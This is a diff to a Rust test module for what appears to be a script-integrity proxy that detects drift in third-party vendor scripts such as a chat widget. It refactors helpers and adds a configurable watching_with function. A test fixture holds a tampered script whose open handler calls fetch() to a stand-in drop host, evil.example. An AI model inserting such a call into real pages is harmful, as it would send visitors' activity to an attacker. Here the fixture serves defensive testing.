@@ -5,7 +5,7 @@ use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
 use countersign::analysis;
-use countersign::app::DriftConfig;
+use countersign::app::{AppConfig, DriftConfig};
 use countersign::inventory::approval::{Request, approve_bytes};
 use countersign::inventory::{Form, ScriptId};
 use countersign::store::{DriftRow, EventKind};
@@ -15,7 +15,7 @@ use crate::browser::eventually;
 use crate::policy::vendor::Vendor;
 use crate::support::{Client, Enforced, Upstream, enforce_with, get, get_with, page};
 
-const NEW: &str = "window.chat={open:function(){fetch('https://drop.evil.example/')}};";
+pub(super) const NEW: &str = "window.chat={open:function(){fetch('https://drop.evil.example/')}};";
 
 /// What a vendor serves, changeable.
 #[derive(Clone)]
@@ -46,6 +46,16 @@ impl Served {
 
 /// A proxy that looks at `chat` of this vendor all the time, with [`CHAT`] approved.
 fn watching(upstream: &Upstream, vendor: &Vendor, more: &str) -> Enforced {
+    watching_with(upstream, vendor, more, |_| {})
+}
+
+/// The same, with other settings.
+pub(super) fn watching_with(
+    upstream: &Upstream,
+    vendor: &Vendor,
+    more: &str,
+    adjust: impl FnOnce(&mut AppConfig),
+) -> Enforced {
     let chat = format!(
         "[[script]]\nid = \"chat\"\nurl = \"{}\"\ntier = \"pin\"\nwhy = \"Chat\"\n{more}",
         vendor.url("/chat.js")
@@ -60,6 +70,7 @@ fn watching(upstream: &Upstream, vendor: &Vendor, more: &str) -> Enforced {
             patience: Duration::from_secs(20),
             read: Arc::new(analysis::read),
         });
+        adjust(config);
     })
 }
 
@@ -78,13 +89,13 @@ fn approve(folder: &std::path::Path, code: &str) {
     .unwrap();
 }
 
-async fn stands(proxy: &Enforced, drift: &str) -> DriftRow {
+pub(super) async fn stands(proxy: &Enforced, drift: &str) -> DriftRow {
     let row = || proxy.running.store.drifts().into_iter().find(|row| row.drift == drift);
     eventually(&format!("chat to be {drift}"), async || row()).await
 }
 
 /// Waits until this many more looks were made.
-async fn looks(vendor: &Vendor, count: usize) {
+pub(super) async fn looks(vendor: &Vendor, count: usize) {
     let wanted = vendor.requests().len() + count * 6;
     eventually("more looks", async || (vendor.requests().len() >= wanted).then_some(())).await;
 }
